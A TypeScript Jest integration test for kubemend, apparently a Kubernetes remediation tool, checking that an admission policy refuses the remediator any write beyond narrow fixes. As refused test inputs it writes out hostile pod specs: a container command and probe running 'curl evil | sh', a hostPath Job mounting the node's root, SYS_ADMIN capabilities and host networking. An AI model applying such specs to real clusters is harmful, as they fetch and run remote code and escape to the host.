import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  AppsV1Api,
  AutoscalingV2Api,
  BatchV1Api,
  PatchStrategy,
  CoreV1Api,
  setHeaderOptions,
  type KubernetesObject,
  type V1Job,
} from '@kubernetes/client-node';
import { parseAllDocuments } from 'yaml';

import { renderRemediatorBindings, REMEDIATOR_GROUP } from '../../lib/rbac.ts';

import { admin, applyShippedRbac, createIfAbsent, createNamespace, kubeConfigFor } from '../testenv/cluster.ts';

/**
 * The admission policy shipped in infra/kubernetes/remediator-admission.yaml, on the real API
 * server: as kubemend's remediator identity, what its fixes write is admitted, and anything else
 * (an image, a command, a ServiceAccount, a hostPath, a host namespace, a write in kube-system, an
 * HPA's target) is refused by the API server itself, whatever RBAC allows. Every suite runs with
 * the policy applied (applyShippedRbac).
 */
const remediator = kubeConfigFor('remediator');
const apps = remediator.makeApiClient(AppsV1Api);
const batch = remediator.makeApiClient(BatchV1Api);
const autoscaling = remediator.makeApiClient(AutoscalingV2Api);
const core = remediator.makeApiClient(CoreV1Api);
const merge = setHeaderOptions('Content-Type', PatchStrategy.StrategicMergePatch);
const json = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);
let namespace: string;
let rollbacks: string;
const node = `kubemend-admission-${Date.now().toString(36)}`;

async function refusal(write: Promise<unknown>): Promise<string> {
  try {
    await write;
  } catch (error) {
    return String((error as { body?: unknown }).body ?? error);
  }
  throw new Error('expected the API server to refuse the write');
}

async function deploymentIn(ns: string, name: string): Promise<void> {
  await admin().apps.createNamespacedDeployment({
    namespace: ns,
    body: {
      metadata: { name },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: name } },
        template: {
          metadata: { labels: { app: name } },
          spec: {
            containers: [
              { name: 'app', image: 'registry.example/app:1.0', resources: { limits: { memory: '64Mi', cpu: '1' } } },
            ],
          },
        },
      },
    },
  });
}

const merged = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
/**
 * Bound by hand where the generated bindings never bind it: RBAC says yes, the policy must say no.
 * Under names of this suite's own, so that removing them afterwards takes nothing another suite
 * applied (the generated node binding is `kubemend-remediator-nodes`).
 */
const handBound = parseAllDocuments(renderRemediatorBindings(['kube-system'], REMEDIATOR_GROUP, true))
  .map((document) => document.toJS() as KubernetesObject)
  .map((object) => ({ ...object, metadata: { ...object.metadata, name: `${object.metadata!.name!}-admission-test` } }));

beforeAll(async () => {
  await applyShippedRbac();
  for (const object of handBound) await createIfAbsent(object);
  namespace = await createNamespace('admission');
  rollbacks = await createNamespace('admission-rollback', {
    labels: { 'kubemend.io/allow-rollback': 'true', 'kubemend.io/allow-retry': 'true' },
  });
  await deploymentIn(namespace, 'web');
  await deploymentIn(rollbacks, 'web');
  await admin().objects.create({
    apiVersion: 'autoscaling/v2',
    kind: 'HorizontalPodAutoscaler',
    metadata: { name: 'web', namespace },
    spec: {
      scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web' },
      minReplicas: 1,
      maxReplicas: 3,
    },
  } as never);
  await admin().core.createNamespacedPersistentVolumeClaim({
    namespace,
    body: {
      metadata: { name: 'data', labels: { tier: 'db' } },
      spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
    },
  });
  // Tainted, so no pod lands on it while kwok plays its kubelet.
  await admin().core.createNode({
    body: {
      metadata: { name: node, labels: { pool: 'general' } },
      spec: { taints: [{ key: 'kubemend.test/admission', effect: 'NoSchedule' }] },
    },
  });
}, 120_000);

afterAll(async () => {
  for (const object of handBound) {
    await admin()
      .objects.delete(object)
      .catch(() => undefined);
  }
  await admin()
    .core.deleteNode({ name: node })
    .catch(() => undefined);
});

const image = (value: string) => ({ spec: { template: { spec: { containers: [{ name: 'app', image: value }] } } } });

describe('the remediator admission policy', () => {
  it('admits what the fixes write: a restart, more memory, a scale', async () => {
    await apps.patchNamespacedDeployment(
      {
        namespace,
        name: 'web',
        body: {
          spec: {
            template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-12-01T00:00:00Z' } } },
          },
        },
      },
      merge,
    );
    await apps.patchNamespacedDeployment(
      {
        namespace,
        name: 'web',
        body: [{ op: 'replace', path: '/spec/template/spec/containers/0/resources/limits/memory', value: '96Mi' }],
      },
      json,
    );
    await apps.patchNamespacedDeployment({ namespace, name: 'web', body: { spec: { replicas: 2 } } }, merge);
    await autoscaling.patchNamespacedHorizontalPodAutoscaler(
      { namespace, name: 'web', body: { spec: { maxReplicas: 5 } } },
      merge,
    );
    await batch.createNamespacedJob({
      namespace: rollbacks,
      body: {
        metadata: { name: 'retry' },
        spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'x' }] } } },
      },
    });

    const deployment = await admin().apps.readNamespacedDeployment({ namespace, name: 'web' });
    expect(deployment.spec?.template.spec?.containers[0]?.resources?.limits).toEqual({ memory: '96Mi', cpu: '1' });
    expect(deployment.spec?.replicas).toBe(2);
  });

  it.each([
    ['an image', image('registry.example/app:evil')],
    [
      'a command',
      { spec: { template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } } } },
    ],
    ['the ServiceAccount', { spec: { template: { spec: { serviceAccountName: 'admin' } } } }],
    ['CPU', { spec: { template: { spec: { containers: [{ name: 'app', resources: { limits: { cpu: '8' } } }] } } } }],
    ['another annotation', { spec: { template: { metadata: { annotations: { 'sidecar.example/inject': 'true' } } } } }],
    [
      'a probe that runs a command',
      {
        spec: {
          template: {
            spec: {
              containers: [{ name: 'app', livenessProbe: { exec: { command: ['sh', '-c', 'curl evil | sh'] } } }],
            },
          },
        },
      },
    ],
    [
      'the nodes it runs on',
      { spec: { template: { spec: { nodeSelector: { 'node-role.kubernetes.io/control-plane': '' } } } } },
    ],
    [
      'a GPU',
      {
        spec: {
          template: { spec: { containers: [{ name: 'app', resources: { limits: { 'nvidia.com/gpu': '1' } } }] } },
        },
      },
    ],
  ])('refuses a change of %s to a workload', async (_what, body) => {
    expect(await refusal(apps.patchNamespacedDeployment({ namespace, name: 'web', body }, merge))).toContain(
      "kubemend's remediator may change a workload's pod template only by its restart annotation and its containers' memory",
    );
  });

  it('refuses a host namespace or a hostPath volume, even where rollbacks are allowed', async () => {
    expect(
      await refusal(
        apps.patchNamespacedDeployment(
          { namespace: rollbacks, name: 'web', body: { spec: { template: { spec: { hostNetwork: true } } } } },
          merge,
        ),
      ),
    ).toContain(
      'may not add a privileged or escalating container, capabilities, a host port, a hostPath volume or a host namespace',
    );
    const hostPath: V1Job = {
      metadata: { name: 'escape' },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            volumes: [{ name: 'root', hostPath: { path: '/' } }],
            containers: [{ name: 'a', image: 'x', volumeMounts: [{ name: 'root', mountPath: '/host' }] }],
          },
        },
      },
    };
    expect(await refusal(batch.createNamespacedJob({ namespace: rollbacks, body: hostPath }))).toContain('hostPath');
    expect(
      await refusal(
        apps.patchNamespacedDeployment(
          {
            namespace: rollbacks,
            name: 'web',
            body: {
              spec: {
                template: {
                  spec: { containers: [{ name: 'app', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] },
                },
              },
            },
          },
          merge,
        ),
      ),
    ).toContain('capabilities');
  });

  it('creates a Job only where an admin allows retries', async () => {
    const plain: V1Job = {
      metadata: { name: 'retry-elsewhere' },
      spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'x' }] } } },
    };
    expect(await refusal(batch.createNamespacedJob({ namespace, body: plain }))).toContain(
      'may create a Job only in a namespace labelled kubemend.io/allow-retry=true',
    );
  });

  it('admits a rollback only in a namespace an admin labelled for it', async () => {
    await apps.patchNamespacedDeployment(
      { namespace: rollbacks, name: 'web', body: image('registry.example/app:0.9') },
      merge,
    );

    const rolledBack = await admin().apps.readNamespacedDeployment({ namespace: rollbacks, name: 'web' });
    expect(rolledBack.spec?.template.spec?.containers[0]?.image).toBe('registry.example/app:0.9');
  });

  it('refuses any write in the control plane’s namespaces, and an HPA pointed elsewhere', async () => {
    await admin().apps.createNamespacedDeployment({
      namespace: 'kube-system',
      body: {
        metadata: { name: `kubemend-admission-${namespace}` },
        spec: {
          selector: { matchLabels: { a: 'b' } },
          template: { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'c', image: 'x' }] } },
        },
      },
    });
    expect(
      await refusal(
        apps.patchNamespacedDeployment(
          { namespace: 'kube-system', name: `kubemend-admission-${namespace}`, body: { spec: { replicas: 3 } } },
          merge,
        ),
      ),
    ).toContain("may not write in the control plane's namespaces");
    await admin().apps.deleteNamespacedDeployment({
      namespace: 'kube-system',
      name: `kubemend-admission-${namespace}`,
    });
    expect(
      await refusal(
        autoscaling.patchNamespacedHorizontalPodAutoscaler(
          {
            namespace,
            name: 'web',
            body: { spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'other' } } },
          },
          merge,
        ),
      ),
    ).toContain("may change an HPA's replica bounds only");
  });
  it('admits a cordon, and refuses a claim’s labels or annotations and a node’s labels, annotations or taints', async () => {
    const claim = { namespace, name: 'data' };
    expect(
      await refusal(
        core.patchNamespacedPersistentVolumeClaim(
          { ...claim, body: { metadata: { labels: { tier: 'web' } } } },
          merged,
        ),
      ),
    ).toContain("may change a PersistentVolumeClaim's storage request only");
    expect(
      await refusal(
        core.patchNamespacedPersistentVolumeClaim(
          { ...claim, body: { metadata: { annotations: { 'volume.beta.kubernetes.io/storage-provisioner': 'x' } } } },
          merged,
        ),
      ),
    ).toContain("may change a PersistentVolumeClaim's storage request only");

    const cordoned = await core.patchNode(
      { name: node, dryRun: 'All', body: { spec: { unschedulable: true } } },
      merged,
    );
    expect(cordoned.spec?.unschedulable).toBe(true);
    for (const body of [
      { metadata: { labels: { pool: 'gpu' } } },
      { metadata: { annotations: { 'node.example/owner': 'x' } } },
      { spec: { taints: [] } },
    ]) {
      expect(await refusal(core.patchNode({ name: node, body }, merged))).toContain(
        "may change a node's schedulability only",
      );
    }
  });

  it('is bound only in the namespaces the rules list: elsewhere RBAC refuses it before admission does', async () => {
    const unbound = await createNamespace('admission-unbound', { bound: false });
    await deploymentIn(unbound, 'web');

    const answer = await refusal(
      apps.patchNamespacedDeployment({ namespace: unbound, name: 'web', body: { spec: { replicas: 2 } } }, merge),
    );
    expect(answer).toContain('User \\"kubemend-remediator\\" cannot patch resource \\"deployments\\"');
    expect(answer).not.toContain('kubemend-remediator-writes');
    await admin().core.deleteNamespace({ name: unbound });
  });
});
